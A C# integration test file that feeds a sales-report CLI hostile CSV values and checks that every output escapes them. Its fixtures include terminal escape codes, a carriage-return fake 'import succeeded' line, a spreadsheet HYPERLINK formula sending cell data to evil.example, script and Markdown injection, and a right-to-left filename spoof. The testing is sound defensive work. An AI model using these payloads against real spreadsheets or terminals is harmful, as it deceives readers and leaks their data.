using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using CsvHelper;
using CsvHelper.Configuration;
using Sales.Domain.Text;
using Sales.IntegrationTests.Support;

namespace Sales.IntegrationTests.Hardening;

/// <summary>
/// Sheets crafted to attack whoever reads the outputs (terminal escape codes, a carriage return
/// faking a line, spreadsheet formulas, Markdown and HTML), through the real host process: no raw
/// control character reaches the console, every message stays one line, CSV cells cannot run as
/// formulas, Markdown rows keep their cells, and JSON keeps every value exact.
/// </summary>
[Trait("Category", "Slow")]
public sealed partial class HostileDataInOutputsTests : IDisposable
{
    private const string ClearScreen = "\u001b[2J\u001b[H";
    private const string FakeSuccess = "\rimport succeeded: 0 errors";

    private static readonly string[] ProductNames =
    [
        ClearScreen + "Clear",
        "Fake" + FakeSuccess,
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
        "a|b|c",
        "<script>alert(1)</script>",
        "[click](http://evil.example) ![img](http://evil.example/x.png)",
        "@SUM(1+1)",
        "+1",
        "-2+3",
        "bell\a tab\t del\u007f c1\u009b right-to-left\u202Egpj.exe",
        "line\nbreak",
    ];

    private static readonly string[] Cities = ["+33 Paris\tNord", "-Lyon"];

    private readonly Workspace _workspace = new();

    public HostileDataInOutputsTests()
    {
        var products = new StringBuilder(Sheets.Products());
        var sales = new StringBuilder(Sheets.Sales());
        for (var i = 0; i < ProductNames.Length; i++)
        {
            products.Append(CultureInfo.InvariantCulture, $"{Quoted(ProductNames[i])},P{i},1{i}.50,5\n");
            sales.Append(CultureInfo.InvariantCulture, $"2024-01-0{1 + (i % 2)},P{i},{1 + i},{1 + (i % 2)}\n");
        }

        sales.Append(CultureInfo.InvariantCulture, $"2024-01-03,P1,{Quoted(ClearScreen + "3" + FakeSuccess)},1\n");
        sales.Append(CultureInfo.InvariantCulture, $"2024-01-03,{Quoted("P\u001b]8;;http://evil.example\u0007X")},1,2\n");
        _workspace.Write("products.csv", products.ToString());
        _workspace.Write("stores.csv", Sheets.Stores() + $"1,{Quoted(Cities[0])},3\n2,{Quoted(Cities[1])},4\n");
        _workspace.Write("sales.csv", sales.ToString());
    }

    public void Dispose() => _workspace.Dispose();

    [Fact]
    public async Task Import_and_analyze_print_the_data_escaped_one_line_per_refused_line()
    {
        var run = await HostAsync(["run", "--db", _workspace.DatabasePath, .. Sources()]);

        Assert.True(run.ExitCode == 0, run.StandardError);
        AssertPrintable(run.StandardOutput + run.StandardError);
        Assert.Contains(@"  line 13, column 'Quantité': ", run.StandardOutput, StringComparison.Ordinal);
        Assert.Contains(@"\x1b[2J\x1b[H3\rimport succeeded: 0 errors", run.StandardOutput, StringComparison.Ordinal);
        Assert.Contains(@"P\x1b]8;;http://evil.example\x07X", run.StandardOutput, StringComparison.Ordinal);
        Assert.DoesNotContain(run.StandardOutput.Split('\n'), line => line.StartsWith("import succeeded", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_strict_import_fails_with_one_escaped_line()
    {
        var strict = await HostAsync(["import", "--db", _workspace.DatabasePath, "--strict", .. Sources()]);

        Assert.Equal(1, strict.ExitCode);
        AssertPrintable(strict.StandardOutput + strict.StandardError);
        var line = Assert.Single(strict.StandardError.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        Assert.Contains("line 13, column 'Quantité'", line, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_table_and_markdown_reports_escape_every_cell_and_keep_their_rows()
    {
        await RunAsync();

        var table = await HostAsync("report", "--db", _workspace.DatabasePath, "--format", "table");
        var markdown = await HostAsync("report", "--db", _workspace.DatabasePath, "--format", "markdown");

        Assert.True(table.ExitCode == 0 && markdown.ExitCode == 0, table.StandardError + markdown.StandardError);
        AssertPrintable(table.StandardOutput + markdown.StandardOutput);
        Assert.Contains(@"\x1b[2J\x1b[HClear", table.StandardOutput, StringComparison.Ordinal);
        Assert.Contains(@"right-to-left\u202egpj.exe", table.StandardOutput, StringComparison.Ordinal);
        AssertMarkdownTablesIntact(markdown.StandardOutput);
        Assert.Contains(@"\<script>alert(1)\</script>", markdown.StandardOutput, StringComparison.Ordinal);
        Assert.Contains(@"\[click\](http://evil.example) !\[img\](http://evil.example/x.png)", markdown.StandardOutput, StringComparison.Ordinal);
        Assert.Contains(@"a\|b\|c", markdown.StandardOutput, StringComparison.Ordinal);
        Assert.Contains(@"Fake\rimport succeeded", markdown.StandardOutput, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Csv_cells_that_would_run_as_formulas_are_neutralised_and_numbers_stay_numbers()
    {
        await RunAsync();
        var directory = Path.Combine(_workspace.Directory, "csv");

        var csv = await HostAsync("report", "--db", _workspace.DatabasePath, "--format", "csv", "--out", directory);

        Assert.True(csv.ExitCode == 0, csv.StandardError);
        var products = ReadCsv(Path.Combine(directory, "revenue_by_product.csv"));
        var names = products.Skip(1).Select(row => row[1]).ToList();
        foreach (var name in ProductNames)
        {
            var dangerous = name.TrimStart(' ')[0] is '=' or '+' or '-' or '@' or '\t' or '\r';
            Assert.Contains(dangerous ? "'" + name : name, names);
        }

        Assert.All(products.Skip(1), row => Assert.Matches(@"^\d+(\.\d\d)?$", row[3]));
        var cities = ReadCsv(Path.Combine(directory, "revenue_by_city.csv")).Skip(1).Select(row => row[0]).ToList();
        Assert.Equal(["'+33 Paris\tNord", "'-Lyon"], cities.Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task Json_keeps_every_value_exact_and_stays_valid()
    {
        await RunAsync();

        var json = await HostAsync("report", "--db", _workspace.DatabasePath, "--format", "json");

        Assert.True(json.ExitCode == 0, json.StandardError);
        AssertPrintable(json.StandardOutput);
        using var document = JsonDocument.Parse(json.StandardOutput);
        var analyses = document.RootElement.GetProperty("analyses").EnumerateArray().ToDictionary(a => a.GetProperty("name").GetString()!, a => a.GetProperty("rows"));
        var names = analyses["revenue_by_product"].EnumerateArray().Select(row => row.GetProperty("product_name").GetString()).ToList();
        Assert.Equal(ProductNames.Order(StringComparer.Ordinal), names.Order(StringComparer.Ordinal));
        var cities = analyses["revenue_by_city"].EnumerateArray().Select(row => row.GetProperty("city").GetString()).ToList();
        Assert.Equal(Cities.Order(StringComparer.Ordinal), cities.Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task The_profile_escapes_the_data_in_text_and_markdown()
    {
        var profile = await HostAsync(["profile", .. Sources(), "--out", _workspace.Directory]);

        Assert.True(profile.ExitCode == 0, profile.StandardError);
        var markdown = File.ReadAllText(Path.Combine(_workspace.Directory, "profile.md"));
        AssertPrintable(profile.StandardOutput + markdown);
        AssertMarkdownTablesIntact(markdown);
        Assert.Contains(@"\x1b[2J\x1b[H3\rimport succeeded", profile.StandardOutput, StringComparison.Ordinal);
        Assert.DoesNotContain("<script>", markdown, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_watch_cycle_failing_on_the_data_prints_one_escaped_line()
    {
        using var host = RunningHost.Start(["watch", "--db", _workspace.DatabasePath, "--strict", "--interval", "1h", .. Sources()]);

        var cycle = (await host.WaitForLinesAsync(line => line.Contains("failed:", StringComparison.Ordinal), 1, TimeSpan.FromSeconds(90)))[0];
        host.Terminate();
        var exitCode = await host.WaitForExitAsync(TimeSpan.FromSeconds(90));

        Assert.True(exitCode == 0, host.Errors);
        Assert.Contains(@"line 13, column 'Quantité'", cycle, StringComparison.Ordinal);
        Assert.Contains(@"\x1b[2J\x1b[H3\rimport succeeded: 0 errors", cycle, StringComparison.Ordinal);
        AssertPrintable(string.Join("\n", host.Output) + host.Errors);
        Assert.DoesNotContain(host.Output, line => line.StartsWith("import succeeded", StringComparison.Ordinal));
    }

    private string[] Sources() =>
    [
        "--products", Path.Combine(_workspace.Directory, "products.csv"),
        "--stores", Path.Combine(_workspace.Directory, "stores.csv"),
        "--sales", Path.Combine(_workspace.Directory, "sales.csv"),
    ];

    private async Task RunAsync()
    {
        var run = await HostAsync(["run", "--db", _workspace.DatabasePath, .. Sources()]);
        Assert.True(run.ExitCode == 0, run.StandardError);
    }

    private Task<HostProcess.Outcome> HostAsync(params string[] arguments) => HostProcess.RunInAsync(_workspace.Directory, arguments);

    private static string Quoted(string value) => "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    // Line breaks are the output's own; anything else unsafe came from the data.
    private static void AssertPrintable(string output)
    {
        foreach (var line in output.Split('\n'))
        {
            var bad = line.FirstOrDefault(PrintableText.IsUnsafe);
            Assert.True(bad == default, $"U+{(int)bad:X4} printed raw in: {line}");
        }
    }

    // Every row of each Markdown table has as many cells as its header.
    private static void AssertMarkdownTablesIntact(string markdown)
    {
        int? cells = null;
        foreach (var line in markdown.Split('\n'))
        {
            if (!line.StartsWith('|'))
            {
                cells = null;
                continue;
            }

            var count = UnescapedPipe().Count(line);
            cells ??= count;
            Assert.True(cells == count, $"row with {count - 1} cells instead of {cells - 1}: {line}");
        }
    }

    private static List<string[]> ReadCsv(string path)
    {
        using var reader = new StreamReader(path);
        using var csv = new CsvParser(reader, new CsvConfiguration(CultureInfo.InvariantCulture) { HasHeaderRecord = false });
        var rows = new List<string[]>();
        while (csv.Read())
        {
            rows.Add(csv.Record!);
        }

        return rows;
    }

    [GeneratedRegex(@"(?<!\\)\|")]
    private static partial Regex UnescapedPipe();
}
